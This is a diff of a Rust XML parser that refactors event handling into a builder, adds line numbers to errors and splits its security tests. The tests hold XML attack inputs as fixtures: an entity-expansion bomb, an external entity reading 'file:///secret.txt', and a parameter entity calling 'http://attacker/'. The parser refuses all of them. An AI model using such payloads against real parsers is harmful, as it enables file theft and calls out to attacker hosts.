@@ -36,82 +36,113 @@ impl Element {
     }
 }
 
-/// The root of a document. Elements in one of `namespaces` remember it.
+/// The root of a document. Elements in one of `namespaces` remember it. An error says the line.
 pub(super) fn parse(body: &[u8], namespaces: &[&'static str]) -> Result<Element, String> {
     let text = decoded(body)?;
-    let text = text.trim_start_matches('\u{feff}');
-    let mut reader = NsReader::from_str(text);
-    tree(&mut reader, namespaces).map_err(|problem| {
-        let at = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
-        let before = &text.as_bytes()[..at.min(text.len())];
-        let line = 1 + before.iter().filter(|byte| **byte == b'\n').count();
-        format!("{problem} (line {line})")
-    })
-}
-
-fn tree(reader: &mut NsReader<&[u8]>, namespaces: &[&'static str]) -> Result<Element, String> {
-    let mut stack: Vec<Element> = Vec::new();
-    let mut root = None;
+    let mut reader = NsReader::from_str(text.trim_start_matches('\u{feff}'));
+    let mut builder = Builder::default();
     loop {
         let at = reader.buffer_position();
-        let (resolved, event) = reader
-            .read_resolved_event()
-            .map_err(|error| format!("XML-TRUNC: {error} at byte {at}"))?;
-        let namespace = match resolved {
-            ResolveResult::Bound(bound) => {
-                namespaces.iter().copied().find(|known| bound.as_ref() == *known)
+        let step = match reader.read_resolved_event() {
+            Ok((_, Event::Eof)) => break,
+            Ok((resolved, event)) => {
+                let namespace = match resolved {
+                    ResolveResult::Bound(bound) => {
+                        namespaces.iter().copied().find(|known| bound.as_ref() == *known)
+                    }
+                    _ => None,
+                };
+                builder.take(event, namespace)
             }
-            _ => None,
+            Err(error) => Err(format!("XML-TRUNC: {error}")),
         };
+        step.map_err(|reason| format!("{reason} (line {})", line(&text, at)))?;
+    }
+    if let Some(open) = builder.stack.last() {
+        let last = line(&text, text.len() as u64);
+        return Err(format!("XML-TRUNC: document ends inside <{}> (line {last})", open.name));
+    }
+    builder.root.ok_or_else(|| "XML-TRUNC: there is no element".to_owned())
+}
+
+/// The line, from 1, of a place in a text.
+fn line(text: &str, at: u64) -> usize {
+    let before = text.as_bytes().iter().take(usize::try_from(at).unwrap_or(usize::MAX));
+    before.filter(|byte| **byte == b'\n').count() + 1
+}
+
+/// The tree as far as it has come.
+#[derive(Default)]
+struct Builder {
+    stack: Vec<Element>,
+    root: Option<Element>,
+}
+
+impl Builder {
+    fn take(&mut self, event: Event<'_>, namespace: Option<&'static str>) -> Result<(), String> {
         match event {
             Event::Start(start) => {
-                if stack.is_empty() && root.is_some() {
+                if self.stack.is_empty() && self.root.is_some() {
                     return Err("XML-ROOT: there is more than one root element".to_owned());
                 }
-                stack.push(opened(&start, namespace, stack.len())?);
+                self.stack.push(opened(&start, namespace, self.stack.len())?);
             }
             Event::Empty(start) => {
-                let element = opened(&start, namespace, stack.len())?;
-                close(element, &mut stack, &mut root);
+                let element = opened(&start, namespace, self.stack.len())?;
+                close(element, &mut self.stack, &mut self.root);
             }
             Event::End(_) => {
-                let element = stack.pop().ok_or("XML-TRUNC: an element ends that never began")?;
-                close(element, &mut stack, &mut root);
+                let ended = self.stack.pop();
+                let element = ended.ok_or("XML-TRUNC: an element ends that never began")?;
+                close(element, &mut self.stack, &mut self.root);
             }
-            Event::Text(text) => {
-                if let Some(open) = stack.last_mut() {
-                    open.text.push_str(&text);
-                }
-            }
-            Event::CData(data) => {
-                if let Some(open) = stack.last_mut() {
-                    open.text.push_str(&data);
-                }
-            }
+            Event::Text(text) => self.write(&text),
+            Event::CData(data) => self.write(&data),
             Event::GeneralRef(reference) => {
                 let character = entity(&reference)?;
-                if let Some(open) = stack.last_mut() {
-                    open.text.push(character);
-                }
+                self.write(character.encode_utf8(&mut [0; 4]));
             }
             Event::DocType(_) => {
                 return Err("XML-DOCTYPE: document type declarations are not allowed".to_owned());
             }
-            Event::Eof => break,
-            Event::Decl(_) | Event::PI(_) | Event::Comment(_) => {}
+            Event::Eof | Event::Decl(_) | Event::PI(_) | Event::Comment(_) => {}
+        }
+        Ok(())
+    }
+
+    fn write(&mut self, text: &str) {
+        if let Some(open) = self.stack.last_mut() {
+            open.text.push_str(text);
         }
     }
-    if let Some(open) = stack.last() {
-        return Err(format!("XML-TRUNC: document ends inside <{}>", open.name));
+}
+
+/// The namespace of the root, whatever it is; empty if it has none or cannot be read.
+pub(super) fn root_namespace(body: &[u8]) -> String {
+    let Ok(text) = decoded(body) else { return String::new() };
+    let mut reader = NsReader::from_str(text.trim_start_matches('\u{feff}'));
+    loop {
+        match reader.read_resolved_event() {
+            Ok((ResolveResult::Bound(bound), Event::Start(_) | Event::Empty(_))) => {
+                return bound.as_ref().to_owned();
+            }
+            Ok((_, Event::Start(_) | Event::Empty(_) | Event::Eof)) | Err(_) => {
+                return String::new();
+            }
+            Ok(_) => {}
+        }
     }
-    root.ok_or_else(|| "XML-TRUNC: there is no element".to_owned())
 }
 
 /// The text of a document in the encoding that it declares: UTF-8, or ISO-8859-1 of older kernels.
 pub(super) fn decoded(body: &[u8]) -> Result<Cow<'_, str>, String> {
     let utf_8 = || {
-        let text = std::str::from_utf8(body).map_err(|_| "XML-ENCODING: it is not UTF-8");
-        text.map(Cow::Borrowed).map_err(str::to_owned)
+        let text = std::str::from_utf8(body).map_err(|error| {
+            let before = body[..error.valid_up_to()].iter();
+            let line = before.filter(|byte| **byte == b'\n').count() + 1;
+            format!("XML-ENCODING: it is not UTF-8 (line {line})")
+        });
+        text.map(Cow::Borrowed)
     };
     let Some(declared) = declared_encoding(body) else { return utf_8() };
     match declared.to_ascii_lowercase().as_str() {
@@ -195,50 +226,93 @@ mod tests {
     }
 
     #[test]
-    fn xml_01_02_03_document_types_are_refused_whatever_they_declare() {
-        assert!(refusal("<?xml version=\"1.0\"?>\n\n<!DOCTYPE x><x/>").ends_with("(line 3)"));
-        for declaration in [
-            "<!DOCTYPE x [<!ENTITY a \"b\"><!ENTITY c \"&a;&a;\">]>",
-            "<!DOCTYPE x SYSTEM \"file:///secret.txt\">",
-            "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker/\">%p;]>",
-        ] {
-            assert!(refusal(&format!("{declaration}<x/>")).starts_with("XML-DOCTYPE"));
+    fn xml_01_entities_that_multiply_are_never_expanded() {
+        let laughs = "<!DOCTYPE x [\n<!ENTITY a \"ha\">\n<!ENTITY b \"&a;&a;\">]>\n<x>&b;</x>";
+
+        let error = refusal(laughs);
+
+        assert_eq!(error, "XML-DOCTYPE: document type declarations are not allowed (line 1)");
+    }
+
+    #[test]
+    fn xml_02_no_file_is_read() {
+        let error =
+            refusal("<?xml version='1.0'?>\n<!DOCTYPE x SYSTEM \"file:///secret.txt\"><x/>");
+
+        assert!(error.starts_with("XML-DOCTYPE") && !error.contains("secret"), "{error}");
+    }
+
+    #[test]
+    fn xml_03_no_address_is_called() {
+        let declared = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker/\">%p;]><x/>";
+
+        assert!(refusal(declared).starts_with("XML-DOCTYPE"));
+    }
+
+    #[test]
+    fn xml_04_only_the_five_entities_exist() {
+        assert_eq!(
+            refusal("<a>\n<b>\n&foo;</b></a>"),
+            "XML-ENTITY: entity foo is not defined (line 3)"
+        );
+        let fine = parse(b"<a>&lt;&#65;&#x42;&amp;&gt;&quot;&apos;</a>", &[]).unwrap();
+        assert_eq!(fine.text, "<AB&>\"'");
+    }
+
+    #[test]
+    fn xml_05_characters_that_xml_forbids_are_refused() {
+        for reference in ["&#x0;", "&#xFFFE;", "&#x1F;", "&#xD800;", "&#x110000;"] {
+            let error = refusal(&format!("<a>\n{reference}</a>"));
+
+            assert!(
+                error.starts_with("XML-CHAR: ") && error.ends_with("(line 2)"),
+                "{reference}: {error}"
+            );
         }
     }
 
     #[test]
-    fn xml_04_05_only_the_five_entities_and_legal_characters_exist() {
-        assert!(refusal("<a>&foo;</a>").starts_with("XML-ENTITY: entity foo"));
-        assert!(refusal("<a>&#x0;</a>").starts_with("XML-CHAR"));
-        assert!(refusal("<a>&#xFFFE;</a>").starts_with("XML-CHAR"));
-        let fine = parse(b"<a>&lt;&#65;&#x42;&amp;&gt;</a>", &[]).unwrap();
-        assert_eq!(fine.text, "<AB&>");
-    }
-
-    #[test]
     fn xml_06_a_document_that_breaks_off_is_refused() {
-        assert_eq!(refusal("<a><b>1</b>"), "XML-TRUNC: document ends inside <a>");
+        assert_eq!(refusal("<a>\n<b>1</b>\n"), "XML-TRUNC: document ends inside <a> (line 3)");
         assert!(refusal("").starts_with("XML-TRUNC"));
+        assert!(refusal("<a><b>1</").starts_with("XML-TRUNC"));
         assert!(refusal("<a/><b></b>").starts_with("XML-ROOT"));
     }
 
     #[test]
-    fn xml_07_08_width_and_depth_are_limited() {
-        let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"1\"")).collect();
-        let deep = "<a>".repeat(100_000);
+    fn xml_07_an_element_has_at_most_256_attributes() {
+        let attributes =
+            |count: usize| -> String { (0..count).map(|n| format!(" a{n}=\"1\"")).collect() };
 
-        assert!(refusal(&format!("<x{attributes}/>")).starts_with("XML-LIMIT: more than 256"));
-        assert!(refusal(&deep).starts_with("XML-LIMIT: nesting deeper than 64"));
+        let error = refusal(&format!("<x>\n<y{}/></x>", attributes(100_000)));
+
+        assert_eq!(error, "XML-LIMIT: more than 256 attributes (line 2)");
+        assert!(parse(format!("<x{}/>", attributes(256)).as_bytes(), &[]).is_ok());
     }
 
     #[test]
-    fn xml_09_10_the_declared_encoding_is_the_one_that_is_read() {
+    fn xml_08_elements_nest_at_most_64_deep() {
+        let nested = |depth: usize| "<a>".repeat(depth) + &"</a>".repeat(depth);
+
+        assert_eq!(refusal(&nested(100_000)), "XML-LIMIT: nesting deeper than 64 (line 1)");
+        assert!(parse(nested(64).as_bytes(), &[]).is_ok());
+        assert!(parse(nested(65).as_bytes(), &[]).is_err());
+    }
+
+    #[test]
+    fn xml_09_the_declared_encoding_must_be_that_of_the_bytes() {
         let utf_16 = refusal("<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>");
+
+        assert_eq!(utf_16, "XML-ENCODING: declared encoding UTF-16 does not match the bytes");
+        let latin_1 = parse(b"<a>\n\xfc</a>", &[]).unwrap_err();
+        assert_eq!(latin_1, "XML-ENCODING: it is not UTF-8 (line 2)");
+    }
+
+    #[test]
+    fn xml_10_latin_1_is_read_if_it_is_declared() {
         let latin_1 = b"<?xml version='1.0' encoding='ISO-8859-1'?><a>Gr\xfc\xdfe</a>";
 
-        assert!(utf_16.starts_with("XML-ENCODING: declared encoding UTF-16"), "{utf_16}");
-        assert_eq!(parse(latin_1, &[]).unwrap().text, "Grüße");
-        assert!(parse(b"<a>\xfc</a>", &[]).unwrap_err().starts_with("XML-ENCODING"));
+        assert_eq!(parse(latin_1, &[]).unwrap().text, "Gr\u{fc}\u{df}e");
     }
 
     #[test]
